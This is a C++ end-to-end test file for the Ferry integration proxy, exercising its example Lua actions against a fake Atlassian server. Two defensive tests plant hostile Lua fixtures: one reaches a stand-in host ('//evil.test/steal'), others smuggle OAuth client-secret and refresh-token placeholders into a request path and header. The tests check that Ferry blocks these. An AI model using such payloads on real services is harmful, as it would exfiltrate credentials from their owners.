// The shipped example actions end to end: `ferry init`'s Lua files run by the real binary
// against the real fake-atlassian, their HTTP calls going through Ferry's own proxy path.
#include <filesystem>
#include <nlohmann/json.hpp>

#include "fake_atlassian_process.h"
#include "fake_atlassian_setup.h"
#include "ferry_fixture.h"

namespace ferry::testing {
namespace {

using nlohmann::json;

constexpr const char* kSecret = "e2e-actions-secret-key-0123456789";

class ExampleActions : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = make_temp_dir("ferry-actions") + "/demo";
    ASSERT_EQ(ferry({"init", dir_}).exit_code, 0);
    const std::string base = fake_.base_url();
    write_file(dir_ + "/integrations.yaml", "integrations:\n" +
                                                fake_jira_integration("jira", base) +
                                                fake_jira_integration("confluence", base));
    write_file(dir_ + "/ferry.yaml", std::string("secret_key: ") + kSecret + "\n");
    server_ = std::make_unique<RunningFerry>(dir_);
    auto connection = with_issued_tokens(fake_.issue_tokens());
    for (const char* key : {"jira", "confluence"}) {
      connection.integration = key;
      import_connection(*server_, kSecret, connection);
    }
  }

  HttpReply trigger(const std::string& integration, const std::string& action, const json& input) {
    return server_->client().request("POST", "/action/trigger",
                                     connection_headers(kSecret, integration, "user-1"),
                                     json{{"action_name", action}, {"input", input}}.dump());
  }

  Fake fake_;
  std::string dir_;
  std::unique_ptr<RunningFerry> server_;
};

TEST_F(ExampleActions, CreateIssueSendsAnAdfDescriptionAndReturnsTheKey) {
  auto reply = trigger("jira", "create-issue",
                       {{"project_key", "PROJ"}, {"summary", "From an action"},
                        {"description", "Created end to end"}});
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  ASSERT_TRUE(output["key"].is_string()) << reply.body;
  EXPECT_EQ(output["key"].get<std::string>().rfind("PROJ-", 0), 0u);
  // The issue exists upstream, with the ADF description the action built.
  auto issue = trigger("jira", "create-issue", {{"summary", "missing project"}});
  EXPECT_EQ(issue.status, 500);
  EXPECT_EQ(json::parse(issue.body)["error"]["code"], "action_failed");
}

TEST_F(ExampleActions, SearchIssuesFollowsNextPageTokensToTheEnd) {
  auto reply = trigger("jira", "search-issues", {{"jql", "project = PROJ ORDER BY key"}});
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  EXPECT_EQ(output["truncated"], false);
  EXPECT_GE(output["issues"].size(), 100u) << "expected several pages of the fake's PROJ issues";
  EXPECT_EQ(output["issues"][0]["key"], "PROJ-1");
  // Each page was one proxied call in the activity log.
  auto logs = server_->client().get("/logs?integration=jira&limit=100", api_headers(kSecret));
  EXPECT_GE(json::parse(logs.body)["logs"].size(), 2u);
}

TEST_F(ExampleActions, ListPagesFollowsConfluenceCursorLinks) {
  auto reply = trigger("confluence", "list-pages", json::object());
  ASSERT_EQ(reply.status, 200) << reply.body;
  auto output = json::parse(reply.body);
  EXPECT_EQ(output["truncated"], false);
  EXPECT_GE(output["pages"].size(), 50u) << reply.body.substr(0, 500);
}

TEST_F(ExampleActions, AHostEscapingEndpointFailsTheAction) {
  write_file(dir_ + "/jira/escape.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '//evil.test/steal'}\n"
             "end\n");
  // Picked up without a restart (the folder is polled every second).
  HttpReply reply;
  for (int i = 0; i < 50; ++i) {
    reply = trigger("jira", "escape", json::object());
    if (reply.status != 404) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(reply.status, 500) << reply.body;
  EXPECT_EQ(json::parse(reply.body)["error"]["code"], "action_failed");
}

TEST_F(ExampleActions, CredentialPlaceholdersInAnActionRequestNeverReachTheUpstream) {
  write_file(dir_ + "/jira/leak-path.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '/ex/jira/${oauth_client_secret}/${refresh_token}'}\n"
             "end\n");
  write_file(dir_ + "/jira/leak-header.action.lua",
             "return function(nango, input)\n"
             "  return nango:get{endpoint = '/ex/jira/x', headers = {['X-Leak'] = '${refresh_token}'}}\n"
             "end\n");
  const int before = fake_.admin("GET", "stats")["requests_total"];
  for (const char* action : {"leak-path", "leak-header"}) {
    HttpReply reply;
    // Picked up without a restart (the folder is polled every second).
    for (int i = 0; i < 50; ++i) {
      reply = trigger("jira", action, json::object());
      if (reply.status != 404) break;
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    EXPECT_EQ(reply.status, 500) << action << ": " << reply.body;
    EXPECT_NE(reply.body.find("not allowed here"), std::string::npos) << reply.body;
    EXPECT_EQ(reply.body.find("fake-client-secret"), std::string::npos) << reply.body;
  }
  EXPECT_EQ(fake_.admin("GET", "stats")["requests_total"], before);
}

}  // namespace
}  // namespace ferry::testing
